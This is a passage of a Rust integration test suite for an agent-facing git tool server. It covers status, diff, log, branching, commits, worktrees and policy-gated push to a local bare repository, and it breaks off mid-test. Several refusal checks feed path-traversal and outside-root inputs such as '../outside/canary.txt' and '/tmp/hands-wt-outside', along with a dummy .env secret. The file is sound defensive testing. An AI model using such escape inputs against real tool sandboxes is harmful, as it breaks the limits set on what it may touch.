//! tools-git through the real binary: every tool's normal paths on real repositories built with
//! the `git` CLI, the published catalogue, push to a local bare repository under each policy,
//! a hostile repository whose config and hooks would leave canaries outside the roots if git
//! ever ran them, argument injection, and `.git` files pointing outside the roots. Refusals are
//! paired with a positive control, and the canary folder outside the roots is checked throughout.

use super::common::{Client, Fixture, host_git, host_git_output, text_of};
use rmcp::model::CallToolRequestParams;
use serde_json::{Value, json};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// The ten git tools in their published order.
const GIT_TOOLS: [&str; 10] = [
    "git_status",
    "git_diff",
    "git_log",
    "git_branches",
    "git_branch",
    "git_switch",
    "git_commit",
    "git_branch_commits",
    "git_worktree_add",
    "git_push",
];

/// tools-git with `root` writable and `root/ro` read-only; `push` and `network` optional, the
/// external trust action given.
fn git_config(push: bool, network: bool, external: &str) -> String {
    let grants = if network {
        r#"["filesystem", "spawn", "network"]"#
    } else {
        r#"["filesystem", "spawn"]"#
    };
    let mut text = format!(
        "[daemon]\nstate_dir = \"{{state}}\"\n\n[trust]\napproval_timeout_secs = 1\n\n\
         [[builtins]]\nid = \"tools-git\"\ngrants = {grants}\n\
         filesystem = [{{ path = \"{{root}}\", write = true }}, {{ path = \"{{root}}/ro\" }}]\n\n\
         [builtins.config]\nauthor_name = \"Agent\"\nauthor_email = \"agent@example.com\"\n\
         trust = {{ external = \"{external}\" }}\n"
    );
    if push {
        text.push_str("\n[builtins.config.push]\nremote = \"origin\"\nbranches = [\"task/*\"]\n");
    }
    text
}

/// Writes a config under its own file name (so several daemons of one fixture can differ).
fn config_named(fx: &Fixture, name: &str, text: &str) -> PathBuf {
    let p = fx.config(text);
    let q = p.with_file_name(name);
    std::fs::rename(&p, &q).unwrap();
    q
}

/// A fixture with `root/ro` (the read-only root) and a daemon on the full config.
async fn start() -> (Fixture, Client) {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.root.join("ro")).unwrap();
    let cfg = config_named(&fx, "git.toml", &git_config(true, true, "allow"));
    let c = Client::start(&fx, &cfg).await;
    (fx, c)
}

fn write(path: &Path, content: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap()
}

/// Twenty numbered lines, with line `changed` (1-based, 0 = none) in capitals.
fn numbered(changed: usize) -> String {
    (1..=20)
        .map(|i| if i == changed { format!("LINE{i}\n") } else { format!("line{i}\n") })
        .collect()
}

/// A repository at `dir` on `main` with one commit of `a.txt` (20 lines) and `b.txt`; returns
/// the commit id.
fn init_repo(home: &Path, dir: &Path) -> String {
    std::fs::create_dir_all(dir).unwrap();
    host_git(home, dir, &["init", "-q", "-b", "main"]);
    write(&dir.join("a.txt"), &numbered(0));
    write(&dir.join("b.txt"), "bee\n");
    host_git(home, dir, &["add", "-A"]);
    host_git(home, dir, &["commit", "-q", "-m", "first"]);
    host_git(home, dir, &["rev-parse", "HEAD"])
}

/// Writes `rel` in `dir`, commits everything with `msg` through the CLI, returns the id.
fn cli_commit(home: &Path, dir: &Path, rel: &str, content: &str, msg: &str) -> String {
    write(&dir.join(rel), content);
    host_git(home, dir, &["add", "-A"]);
    host_git(home, dir, &["commit", "-q", "-m", msg]);
    host_git(home, dir, &["rev-parse", "HEAD"])
}

/// The ids of a list of commits in a tool's output.
fn ids(v: &Value) -> Vec<String> {
    v.as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap().to_string()).collect()
}

/// The paths of a status list.
fn paths(v: &Value) -> Vec<String> {
    v.as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap().to_string()).collect()
}

/// What a ref points at in a (bare) repository, `None` if it does not exist.
fn ref_of(home: &Path, gitdir: &Path, refname: &str) -> Option<String> {
    let out = host_git_output(home, gitdir, &["rev-parse", "--verify", "-q", refname]);
    out.status.success().then(|| String::from_utf8(out.stdout).unwrap().trim().to_string())
}

fn contains_ci(hay: &str, needle: &str) -> bool {
    hay.to_lowercase().contains(&needle.to_lowercase())
}

#[tokio::test]
async fn tools_list_publishes_the_ten_git_tools_with_honest_hints() {
    let (fx, c) = start().await;
    let tools = c.service.peer().list_all_tools().await.unwrap();
    let names: Vec<_> = tools.iter().map(|t| t.name.to_string()).collect();
    assert_eq!(names, GIT_TOOLS, "the git tools in their stable order");
    for t in &tools {
        assert!(t.title.is_some(), "{} has a title", t.name);
        assert!(t.description.as_ref().is_some_and(|d| d.len() > 40), "{} described", t.name);
        assert!(t.output_schema.is_some(), "{} has an output schema", t.name);
        let a = t.annotations.as_ref().unwrap();
        let read_class =
            ["git_status", "git_diff", "git_log", "git_branches", "git_branch_commits"];
        assert_eq!(a.read_only_hint, Some(read_class.contains(&t.name.as_ref())), "{}", t.name);
        assert_eq!(a.open_world_hint, Some(t.name == "git_push"), "{}", t.name);
    }
    let push = tools.iter().find(|t| t.name == "git_push").unwrap();
    let a = push.annotations.as_ref().unwrap();
    assert_eq!(a.open_world_hint, Some(true));
    assert_eq!(a.read_only_hint, Some(false));
    assert_eq!(a.destructive_hint, Some(false), "push is never forced");
    let status = tools.iter().find(|t| t.name == "git_status").unwrap();
    assert_eq!(status.annotations.as_ref().unwrap().read_only_hint, Some(true));
    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn status_diff_log_and_branches_report_real_repositories() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let repo = fx.root.join("repo");
    let c1 = init_repo(h, &repo);
    let c2 = cli_commit(h, &repo, "a.txt", &format!("{}line21\n", numbered(0)), "second");
    let c3 = cli_commit(h, &repo, "docs/d.txt", "doc\n", "third");
    host_git(h, &repo, &["branch", "old", &c1]);

    // Clean status.
    let s = c.ok("git_status", json!({"repo": "repo"})).await;
    assert_eq!(s["branch"], "main", "{s}");
    assert_eq!(s["head"], c3.as_str());
    for list in ["staged", "unstaged", "untracked", "conflicted"] {
        assert_eq!(s[list], json!([]), "{list}: {s}");
    }
    assert_eq!(s["total"], 0);
    assert_eq!(s["truncated"], false);
    assert!(s["upstream"].is_null());

    // One staged, two unstaged, one untracked file and one untracked folder.
    write(&repo.join("s.txt"), "staged\n");
    host_git(h, &repo, &["add", "s.txt"]);
    write(&repo.join("a.txt"), &format!("{}line21\n", numbered(10)));
    write(&repo.join("b.txt"), "bee\nbuzz\n");
    write(&repo.join("u.txt"), "untracked\n");
    write(&repo.join("newdir/x.txt"), "x\n");
    let s = c.ok("git_status", json!({"repo": fx.root.join("repo")})).await;
    assert_eq!(s["staged"], json!([{"path": "s.txt", "status": "added"}]), "{s}");
    assert_eq!(paths(&s["unstaged"]), ["a.txt", "b.txt"], "{s}");
    assert_eq!(s["unstaged"][0]["status"], "modified");
    assert_eq!(paths(&s["untracked"]), ["newdir/", "u.txt"], "{s}");
    assert_eq!(s["untracked"][0]["status"], "untracked");
    assert_eq!(s["conflicted"], json!([]));
    assert_eq!(s["total"], 5);

    // Unstaged diff: both modified files, default context 3.
    let d = c.ok("git_diff", json!({"repo": "repo"})).await;
    assert_eq!(d["files_changed"], 2, "{d}");
    assert_eq!(d["truncated"], false);
    let p = d["patch"].as_str().unwrap();
    assert!(p.contains("diff --git a/a.txt b/a.txt"), "{p}");
    assert!(p.contains("-line10\n+LINE10\n"), "{p}");
    assert!(p.contains("+buzz\n"), "{p}");
    assert!(p.contains(" line7\n") && p.contains(" line13\n"), "{p}");
    assert!(!p.contains("\n line6\n") && !p.contains("\n line14\n"), "{p}");
    assert!(!p.contains("s.txt"), "staged file not in the unstaged diff: {p}");
    // Staged diff: only the staged file.
    let d = c.ok("git_diff", json!({"repo": "repo", "staged": true})).await;
    assert_eq!(d["files_changed"], 1, "{d}");
    let p = d["patch"].as_str().unwrap();
    assert!(p.contains("s.txt") && p.contains("+staged\n"), "{p}");
    assert!(!p.contains("a.txt"), "{p}");
    // Path filter (relative to the work tree, as git_status prints it).
    let d = c.ok("git_diff", json!({"repo": "repo", "path": "b.txt"})).await;
    assert_eq!(d["files_changed"], 1, "{d}");
    let p = d["patch"].as_str().unwrap();
    assert!(p.contains("b.txt") && !p.contains("a.txt"), "{p}");
    // Context.
    let d = c.ok("git_diff", json!({"repo": "repo", "path": "a.txt", "context": 0})).await;
    let p = d["patch"].as_str().unwrap();
    assert!(p.contains("-line10\n+LINE10\n") && !p.contains("\n line9\n"), "{p}");
    let d = c.ok("git_diff", json!({"repo": "repo", "path": "a.txt", "context": 1})).await;
    let p = d["patch"].as_str().unwrap();
    assert!(p.contains(" line9\n") && p.contains(" line11\n") && !p.contains("\n line8\n"), "{p}");
    // A path filter outside the repository is refused; the one inside worked above.
    write(&fx.root.join("elsewhere/e.txt"), "e\n");
    let elsewhere = fx.root.join("elsewhere/e.txt");
    let e = c.err("git_diff", json!({"repo": "repo", "path": elsewhere})).await;
    assert!(e.contains("outside the repository's work tree"), "{e}");
    let e = c.err("git_diff", json!({"repo": "repo", "path": "../outside/canary.txt"})).await;
    assert!(e.contains("`..`"), "{e}");

    // Log: newest first, limit, path, rev.
    let l = c.ok("git_log", json!({"repo": "repo"})).await;
    assert_eq!(ids(&l["commits"]), [c3.as_str(), c2.as_str(), c1.as_str()], "{l}");
    assert_eq!(l["truncated"], false);
    assert_eq!(l["commits"][0]["summary"], "third");
    assert_eq!(l["commits"][0]["author"], "Fixture");
    assert_eq!(l["commits"][0]["email"], "fixture@example.com");
    assert!(l["commits"][0]["date"].as_str().unwrap().len() >= 25, "{l}");
    for bad in [0, 501] {
        let e = c.err("git_log", json!({"repo": "repo", "limit": bad})).await;
        assert!(e.contains("between 1 and 500"), "{bad}: {e}");
    }
    assert!(c.ok("git_log", json!({"repo": "repo", "limit": 500})).await["commits"].is_array());
    let l = c.ok("git_log", json!({"repo": "repo", "limit": 2})).await;
    assert_eq!(ids(&l["commits"]), [c3.as_str(), c2.as_str()], "{l}");
    assert_eq!(l["truncated"], true);
    let l = c.ok("git_log", json!({"repo": "repo", "path": "docs"})).await;
    assert_eq!(ids(&l["commits"]), [c3.as_str()], "{l}");
    let l = c.ok("git_log", json!({"repo": "repo", "path": "a.txt"})).await;
    assert_eq!(ids(&l["commits"]), [c2.as_str(), c1.as_str()], "{l}");
    let l = c.ok("git_log", json!({"repo": "repo", "rev": "old"})).await;
    assert_eq!(ids(&l["commits"]), [c1.as_str()], "{l}");
    let l = c.ok("git_log", json!({"repo": "repo", "rev": c2})).await;
    assert_eq!(ids(&l["commits"]), [c2.as_str(), c1.as_str()], "{l}");
    let e = c.err("git_log", json!({"repo": "repo", "rev": "nosuch"})).await;
    assert!(e.contains("names no commit"), "{e}");

    // Branches: sorted, the current one marked.
    let b = c.ok("git_branches", json!({"repo": "repo"})).await;
    let list = b["branches"].as_array().unwrap();
    assert_eq!(list.len(), 2, "{b}");
    assert_eq!(list[0]["name"], "main");
    assert_eq!(list[0]["current"], true);
    assert_eq!(list[0]["last_commit"], c3.as_str());
    assert_eq!(list[1]["name"], "old");
    assert_eq!(list[1]["current"], false);
    assert_eq!(list[1]["last_commit"], c1.as_str());
    assert_eq!(list[1]["summary"], "first");
    assert_eq!(b["truncated"], false);

    // Nothing above changed the repository.
    assert_eq!(host_git(h, &repo, &["rev-parse", "HEAD"]), c3);
    assert_eq!(read(&repo.join("a.txt")), format!("{}line21\n", numbered(10)));

    // A conflicted merge shows in `conflicted`, and commit refuses while it is in progress.
    let conf = fx.root.join("conf");
    init_repo(h, &conf);
    host_git(h, &conf, &["switch", "-q", "-c", "other"]);
    cli_commit(h, &conf, "a.txt", &numbered(5), "other side");
    host_git(h, &conf, &["switch", "-q", "main"]);
    cli_commit(h, &conf, "a.txt", &numbered(6), "main side");
    let merged = host_git_output(h, &conf, &["merge", "-q", "other"]);
    assert!(!merged.status.success(), "the fixture merge must conflict");
    let s = c.ok("git_status", json!({"repo": "conf"})).await;
    assert_eq!(s["conflicted"], json!([{"path": "a.txt", "status": "conflicted"}]), "{s}");
    let e = c.err("git_commit", json!({"repo": "conf", "message": "resolve"})).await;
    assert!(e.contains("merge is in progress"), "{e}");

    // Not a repository: a clear error, and parent folders are not searched.
    std::fs::create_dir_all(repo.join("docs/sub")).unwrap();
    let e = c.err("git_status", json!({"repo": "repo/docs/sub"})).await;
    assert!(e.contains("is not a git repository"), "{e}");
    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn branch_switch_and_commit_change_the_repository_as_asked() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let repo = fx.root.join("repo");
    let c1 = init_repo(h, &repo);

    // Branch with checkout (the default), then without.
    let b = c.ok("git_branch", json!({"repo": "repo", "name": "task/a"})).await;
    assert_eq!(b, json!({"name": "task/a", "commit": c1, "checked_out": true}));
    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "task/a");
    let b = c.ok("git_branch", json!({"repo": "repo", "name": "task/b", "checkout": false})).await;
    assert_eq!(b["checked_out"], false, "{b}");
    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "task/a");
    assert_eq!(host_git(h, &repo, &["rev-parse", "task/b"]), c1);
    let e = c.err("git_branch", json!({"repo": "repo", "name": "task/b"})).await;
    assert!(e.contains("already exists"), "{e}");
    let b = c
        .ok("git_branch", json!({"repo": "repo", "name": "refs/heads/task/c", "start": "main"}))
        .await;
    assert_eq!(b["name"], "task/c", "{b}");
    c.ok("git_switch", json!({"repo": "repo", "branch": "task/a"})).await;

    // Commit every change, untracked files (in a new folder) included.
    write(&repo.join("a.txt"), &numbered(3));
    write(&repo.join("new/n.txt"), "new\n");
    let out = c.ok("git_commit", json!({"repo": "repo", "message": "all of it\n\nbody"})).await;
    let all = out["id"].as_str().unwrap().to_string();
    assert_eq!(out["summary"], "all of it", "{out}");
    assert_eq!(out["branch"], "task/a");
    assert_eq!(out["files"], json!(["a.txt", "new/n.txt"]), "{out}");
    assert_eq!(out["skipped"], json!([]));
    assert_eq!(host_git(h, &repo, &["rev-parse", "HEAD"]), all);
    assert_eq!(
        host_git(h, &repo, &["log", "-1", "--format=%an <%ae>|%cn|%P"]),
        format!("Agent <agent@example.com>|Agent|{c1}")
    );
    assert_eq!(host_git(h, &repo, &["show", "HEAD:new/n.txt"]), "new");
    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), "");

    // Commit only `paths`: the other change stays, unstaged, in the work tree.
    write(&repo.join("a.txt"), &numbered(4));
    write(&repo.join("b.txt"), "bee\nchanged\n");
    let out =
        c.ok("git_commit", json!({"repo": "repo", "message": "only a", "paths": ["a.txt"]})).await;
    assert_eq!(out["files"], json!(["a.txt"]), "{out}");
    assert_eq!(host_git(h, &repo, &["show", "--name-only", "--format=", "HEAD"]), "a.txt");
    assert_eq!(host_git(h, &repo, &["show", "HEAD:a.txt"]), numbered(4).trim_end());
    assert_eq!(host_git(h, &repo, &["status", "--porcelain"]), " M b.txt");
    assert_eq!(read(&repo.join("b.txt")), "bee\nchanged\n");
    let e =
        c.err("git_commit", json!({"repo": "repo", "message": "again", "paths": ["a.txt"]})).await;
    assert!(e.contains("nothing to commit in the given paths"), "{e}");
    let e = c.err("git_commit", json!({"repo": "repo", "message": "  \n"})).await;
    assert!(e.contains("argument `message`"), "{e}");
    let e = c
        .err(
            "git_commit",
            json!({"repo": "repo", "message": "x", "paths": ["../outside/canary.txt"]}),
        )
        .await;
    assert!(e.contains("`..`"), "{e}");
    // Secret files are never committed.
    write(&repo.join(".env"), "API_KEY=hunter2\n");
    let out = c.ok("git_commit", json!({"repo": "repo", "message": "b and not the secret"})).await;
    assert_eq!(out["files"], json!(["b.txt"]), "{out}");
    assert_eq!(out["skipped"], json!([".env"]), "{out}");
    assert!(!host_git(h, &repo, &["ls-tree", "-r", "--name-only", "HEAD"]).contains(".env"));
    std::fs::remove_file(repo.join(".env")).unwrap();
    let tip_a = host_git(h, &repo, &["rev-parse", "HEAD"]);

    // Switch refuses to overwrite a local change to a file that differs on the target...
    write(&repo.join("a.txt"), "my unsaved work\n");
    let e = c.err("git_switch", json!({"repo": "repo", "branch": "main"})).await;
    assert!(e.contains("would overwrite local changes") && e.contains("a.txt"), "{e}");
    assert_eq!(read(&repo.join("a.txt")), "my unsaved work\n", "the local change survives");
    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "task/a");
    assert_eq!(host_git(h, &repo, &["rev-parse", "HEAD"]), tip_a);
    // ...and git_branch with checkout refuses the same way, leaving no branch behind.
    let e = c.err("git_branch", json!({"repo": "repo", "name": "task/d", "start": "main"})).await;
    assert!(e.contains("would overwrite local changes"), "{e}");
    assert!(ref_of(h, &repo, "refs/heads/task/d").is_none(), "no half-made branch");
    assert_eq!(read(&repo.join("a.txt")), "my unsaved work\n");
    // ...while a clean work tree switches.
    host_git(h, &repo, &["checkout", "--", "a.txt"]);
    let s = c.ok("git_switch", json!({"repo": "repo", "branch": "main"})).await;
    assert_eq!(s, json!({"branch": "main", "commit": c1, "already": false}));
    assert_eq!(read(&repo.join("a.txt")), numbered(0));
    assert!(!repo.join("new/n.txt").exists());
    assert_eq!(host_git(h, &repo, &["symbolic-ref", "--short", "HEAD"]), "main");
    let s = c.ok("git_switch", json!({"repo": "repo", "branch": "main"})).await;
    assert_eq!(s["already"], true);
    let e = c.err("git_switch", json!({"repo": "repo", "branch": "nosuch"})).await;
    assert!(e.contains("there is no local branch `nosuch`"), "{e}");
    // An unrelated local change is carried across a switch, as git does.
    write(&repo.join("b.txt"), "bee\nlocal\n");
    c.ok("git_switch", json!({"repo": "repo", "branch": "task/b"})).await;
    assert_eq!(read(&repo.join("b.txt")), "bee\nlocal\n");

    // Write-class tools refuse a repository in the read-only root; reading it works.
    let ro = fx.root.join("ro/repo");
    let ro_head = init_repo(h, &ro);
    write(&ro.join("a.txt"), "changed\n");
    let s = c.ok("git_status", json!({"repo": "ro/repo"})).await;
    assert_eq!(paths(&s["unstaged"]), ["a.txt"]);
    for (tool, args) in [
        ("git_commit", json!({"repo": "ro/repo", "message": "x"})),
        ("git_branch", json!({"repo": "ro/repo", "name": "task/ro"})),
        ("git_switch", json!({"repo": "ro/repo", "branch": "main"})),
        ("git_worktree_add", json!({"repo": "ro/repo", "path": "wt-ro", "branch": "task/ro"})),
    ] {
        let e = c.err(tool, args).await;
        assert!(e.contains("read-only root"), "{tool}: {e}");
    }
    assert_eq!(host_git(h, &ro, &["rev-parse", "HEAD"]), ro_head);
    assert_eq!(host_git(h, &ro, &["for-each-ref", "--format=%(refname)"]), "refs/heads/main");
    assert!(!fx.root.join("wt-ro").exists());
    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn branch_commits_and_worktrees() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let repo = fx.root.join("repo");
    let c1 = init_repo(h, &repo);
    host_git(h, &repo, &["switch", "-q", "-c", "task/x"]);
    let x1 = cli_commit(h, &repo, "x1.txt", "1\n", "x one");
    let x2 = cli_commit(h, &repo, "x2.txt", "2\n", "x two");
    host_git(h, &repo, &["switch", "-q", "main"]);
    let m2 = cli_commit(h, &repo, "m.txt", "m\n", "main two");

    // Against an explicit base and against the default branch (main).
    let b = c
        .ok("git_branch_commits", json!({"repo": "repo", "branch": "task/x", "base": "main"}))
        .await;
    assert_eq!(ids(&b["commits"]), [x2.as_str(), x1.as_str()], "{b}");
    assert_eq!(b["base"], "main");
    assert_eq!(b["branch"], "task/x");
    assert_eq!(b["commits"][0]["summary"], "x two");
    assert_eq!(b["truncated"], false);
    let b = c.ok("git_branch_commits", json!({"repo": "repo", "branch": "task/x"})).await;
    assert_eq!(ids(&b["commits"]), [x2.as_str(), x1.as_str()], "{b}");
    assert_eq!(b["base"], "main");
    let b = c
        .ok("git_branch_commits", json!({"repo": "repo", "branch": "main", "base": "task/x"}))
        .await;
    assert_eq!(ids(&b["commits"]), [m2.as_str()], "{b}");
    let b =
        c.ok("git_branch_commits", json!({"repo": "repo", "branch": "task/x", "base": x1})).await;
    assert_eq!(ids(&b["commits"]), [x2.as_str()], "{b}");
    let b =
        c.ok("git_branch_commits", json!({"repo": "repo", "branch": "main", "base": "main"})).await;
    assert_eq!(b["commits"], json!([]));
    let e = c.err("git_branch_commits", json!({"repo": "repo", "branch": "nosuch"})).await;
    assert!(e.contains("names no commit"), "{e}");

    // A worktree on a new branch (made from HEAD), in a folder whose parent does not exist yet.
    let w = c
        .ok("git_worktree_add", json!({"repo": "repo", "path": "wt/new", "branch": "task/new"}))
        .await;
    let wt = fx.root.join("wt/new");
    assert_eq!(
        w,
        json!({"path": wt.to_str().unwrap(), "branch": "task/new", "created_branch": true})
    );
    assert_eq!(host_git(h, &repo, &["rev-parse", "task/new"]), m2);
    assert_eq!(host_git(h, &wt, &["symbolic-ref", "--short", "HEAD"]), "task/new");
    assert_eq!(read(&wt.join("m.txt")), "m\n");
    assert_eq!(host_git(h, &wt, &["status", "--porcelain"]), "");
    assert!(
        host_git(h, &repo, &["worktree", "list", "--porcelain"])
            .contains(&format!("worktree {}", wt.display()))
    );
    // The worktree is itself a repository the tools can use.
    let s = c.ok("git_status", json!({"repo": "wt/new"})).await;
    assert_eq!(s["branch"], "task/new", "{s}");
    // On an existing branch, absolute path.
    let wt2 = fx.root.join("wt2");
    let w =
        c.ok("git_worktree_add", json!({"repo": "repo", "path": wt2, "branch": "task/x"})).await;
    assert_eq!(w["created_branch"], false, "{w}");
    assert_eq!(host_git(h, &wt2, &["rev-parse", "HEAD"]), x2);
    assert!(wt2.join("x1.txt").exists());
    // A branch checked out elsewhere, and an existing folder, are refused.
    let e =
        c.err("git_worktree_add", json!({"repo": "repo", "path": "wt3", "branch": "task/x"})).await;
    assert!(e.contains("already checked out"), "{e}");
    let e =
        c.err("git_worktree_add", json!({"repo": "repo", "path": "wt2", "branch": "task/y"})).await;
    assert!(e.contains("already exists"), "{e}");
    assert!(ref_of(h, &repo, "refs/heads/task/y").is_none());

    let refs_before = host_git(h, &repo, &["for-each-ref"]);
    // Refused into the read-only root...
    let e = c
        .err(
            "git_worktree_add",
            json!({"repo": "repo", "path": fx.root.join("ro/wt"), "branch": "task/ro"}),
        )
        .await;
    assert!(e.contains("read-only root"), "{e}");
    assert!(!fx.root.join("ro/wt").exists());
    // ...and outside every root, by absolute path or `..`.
    let e = c
        .err(
            "git_worktree_add",
            json!({"repo": "repo", "path": fx.outside.join("wt"), "branch": "task/out"}),
        )
        .await;
    assert!(e.contains("outside every root"), "{e}");
    let e = c
        .err(
            "git_worktree_add",
            json!({"repo": "repo", "path": "../outside/wt", "branch": "task/out"}),
        )
        .await;
    assert!(e.contains("`..`"), "{e}");
    let e = c
        .err(
            "git_worktree_add",
            json!({"repo": "repo", "path": "/tmp/hands-wt-outside", "branch": "task/out"}),
        )
        .await;
    assert!(e.contains("outside every root"), "{e}");
    assert!(!Path::new("/tmp/hands-wt-outside").exists());
    assert_eq!(host_git(h, &repo, &["for-each-ref"]), refs_before, "no branch made by a refusal");
    // Positive control after the refusals.
    c.ok("git_worktree_add", json!({"repo": "repo", "path": "wt4", "branch": "task/ok"})).await;
    assert_eq!(host_git(h, &repo, &["rev-parse", "task/ok"]), m2);
    assert_ne!(c1, m2);
    c.stop().await;
    fx.assert_canary();
}

#[tokio::test]
async fn push_to_a_local_bare_repository_follows_the_policy() {
    let (fx, c) = start().await;
    let h = &fx.home;
    let repo = fx.root.join("repo");
    let remote = fx.root.join("remote.git");
    init_repo(h, &repo);
    host_git(h, &fx.root, &["init", "-q", "--bare", "-b", "main", remote.to_str().unwrap()]);
    host_git(h, &repo, &["remote", "add", "origin", remote.to_str().unwrap()]);
    host_git(h, &repo, &["push", "-q", "origin", "main"]);
    let remote_main = ref_of(h, &remote, "refs/heads/main").unwrap();

    c.ok("git_branch", json!({"repo": "repo", "name": "task/x"})).await;
    write(&repo.join("x.txt"), "x\n");
    let x1 = c.ok("git_commit", json!({"repo": "repo", "message": "x"})).await["id"]
        .as_str()
        .unwrap()
        .to_string();

    // Refused by configuration: push off, no network grant, trust deny / ask.
    let nopush =
        Client::start(&fx, &config_named(&fx, "nopush.toml", &git_config(false, true, "allow")))
            .await;
    let nonet =
        Client::start(&fx, &config_named(&fx, "nonet.toml", &git_config(true, false, "allow")))
            .await;
    let deny =
        Client::start(&fx, &config_named(&fx, "deny.toml", &git_config(true, true, "deny"))).await;
    let ask =
        Client::start(&fx, &config_named(&fx, "ask.toml", &git_config(true, true, "ask"))).await;
    let args = json!({"repo": "repo", "branch": "task/x"});
    // Push off: the tool is not published at all (nobody is asked to approve a push that could
    // only answer "pushing is off"); a call to it is an unknown tool.
    let listed = nopush.service.peer().list_all_tools().await.unwrap();
    assert!(listed.iter().all(|t| t.name != "git_push"), "git_push published while push is off");
    assert!(listed.iter().any(|t| t.name == "git_commit"), "the other git tools are published");
    let Value::Object(map) = args.clone() else { unreachable!() };
    let unknown = nopush
        .service
        .peer()
        .call_tool(CallToolRequestParams::new("git_push").with_arguments(map))
        .await;
    assert!(unknown.is_err(), "an unpublished git_push ran: {unknown:?}");
    let e = nonet.err("git_push", args.clone()).await;
    assert!(e.contains("`network` grant"), "{e}");
    let e = deny.err("git_push", args.clone()).await;
    assert!(e.contains("refused by policy") && e.contains("trust.external"), "{e}");
    let e = ask.err("git_push", args.clone()).await;
    assert!(e.contains("trust.external") && e.contains("approval"), "{e}");
    // Those daemons still serve their other tools (controls).
    for d in [&nopush, &nonet, &deny, &ask] {
        d.ok("git_status", json!({"repo": "repo"})).await;
    }
    assert!(ref_of(h, &remote, "refs/heads/task/x").is_none(), "nothing reached the remote");
    for d in [nopush, nonet, deny, ask] {
        d.stop().await;
    }

    // `main` (and any branch outside task/*) is refused, even when it is ahead.
    host_git(h, &repo, &["branch", "-f", "main", "task/x"]);
    let e = c.err("git_push", json!({"repo": "repo", "branch": "main"})).await;
    assert!(e.contains("does not match the push patterns task/*"), "{e}");
    host_git(h, &repo, &["branch", "feature/y"]);
    let e = c.err("git_push", json!({"repo": "repo", "branch": "feature/y"})).await;
    assert!(e.contains("does not match the push patterns"), "{e}");
    let e = c.err("git_push", json!({"repo": "repo", "branch": "nosuch/task"})).await;
    assert!(e.contains("does not match"), "{e}");
    let e = c.err("git_push", json!({"repo": "repo", "branch": "task/nosuch"})).await;
    assert!(e.contains("no local branch"), "{e}");
    assert_eq!(
        ref_of(h, &remote, "refs/heads/main").unwrap(),
        remote_main,
        "remote main unchanged"
    );

    // The allowed branch goes through; the remote ref equals the local one.
    let p = c.ok("git_push", args.clone()).await;
    assert_eq!(p["remote"], "origin", "{p}");
    assert_eq!(p["branch"], "task/x");
    assert_eq!(p["url"], remote.to_str().unwrap());
    assert!(p["old"].is_null(), "{p}");
    assert_eq!(p["new"], x1.as_str());
    assert_eq!(p["up_to_date"], false);
    assert_eq!(ref_of(h, &remote, "refs/heads/task/x").unwrap(), x1);
    assert_eq!(
        ref_of(h, &remote, "refs/heads/task/x").unwrap(),
        host_git(h, &repo, &["rev-parse", "task/x"])
    );
    let p = c.ok("git_push", args.clone()).await;
    assert_eq!(p["up_to_date"], true, "{p}");
    // A fast-forward on top.
    write(&repo.join("x.txt"), "x2\n");
    let x2 = c.ok("git_commit", json!({"repo": "repo", "message": "x2"})).await["id"]
        .as_str()
        .unwrap()
        .to_string();
    let p = c.ok("git_push", args.clone()).await;
    assert_eq!(p["old"], x1.as_str(), "{p}");
    assert_eq!(p["new"], x2.as_str());
    assert_eq!(ref_of(h, &remote, "refs/heads/task/x").unwrap(), x2);

    // Non-fast-forward: someone else pushes to task/x; a diverging local commit is refused.
    let other = fx.root.join("other");
    host_git(h, &fx.root, &["clone", "-q", remote.to_str().unwrap(), other.to_str().unwrap()]);
    host_git(h, &other, &["switch", "-q", "task/x"]);
    let theirs = cli_commit(h, &other, "theirs.txt", "theirs\n", "theirs");
    host_git(h, &other, &["push", "-q", "origin", "task/x"]);
    assert_eq!(ref_of(h, &remote, "refs/heads/task/x").unwrap(), theirs);
    write(&repo.join("mine.txt"), "mine\n");
    c.ok("git_commit", json!({"repo": "repo", "message": "mine"})).await;
    let e = c.err("git_push", args.clone()).await;
    assert!(e.contains("non-fast-forward") && e.contains("never force-pushes"), "{e}");
    assert_eq!(ref_of(h, &remote, "refs/heads/task/x").unwrap(), theirs, "remote unchanged");
    // Behind only (the local branch lacks the remote's commit) is refused too.
    host_git(h, &repo, &["branch", "task/x-deep", &x2]);
    host_git(h, &other, &["switch", "-q", "-c", "task/x-deep"]);
    host_git(h, &other, &["push", "-q", "origin", "task/x-deep"]);
    let e = c.err("git_push", json!({"repo": "repo", "branch": "task/x-deep"})).await;
    assert!(e.contains("non-fast-forward"), "{e}");
    assert_eq!(ref_of(h, &remote, "refs/heads/task/x-deep").unwrap(), theirs);

    // A remote in the read-only root, or outside the roots, is refused.
    let ro_remote = fx.root.join("ro/remote.git");
    host_git(h, &fx.root, &["init", "-q", "--bare", ro_remote.to_str().unwrap()]);
    host_git(h, &repo, &["remote", "set-url", "origin", ro_remote.to_str().unwrap()]);
    c.ok("git_branch", json!({"repo": "repo", "name": "task/z", "checkout": false})).await;
    let e = c.err("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
    assert!(e.contains("read-only root"), "{e}");
    assert!(ref_of(h, &ro_remote, "refs/heads/task/z").is_none());
    let outside_remote = fx.outside.join("remote.git");
    host_git(h, &repo, &["remote", "set-url", "origin", outside_remote.to_str().unwrap()]);
    let e = c.err("git_push", json!({"repo": "repo", "branch": "task/z"})).await;
    assert!(e.contains("outside the roots") && e.contains("push.urls"), "{e}");
    assert!(!e.contains("writable root"), "the hint must not offer the remote as a root: {e}");
    for url in ["https://example.com/r.git", "git@example.com:r.git", "../remote.git"] {
        host_git(h, &repo, &["remote", "set-url", "origin", url]);
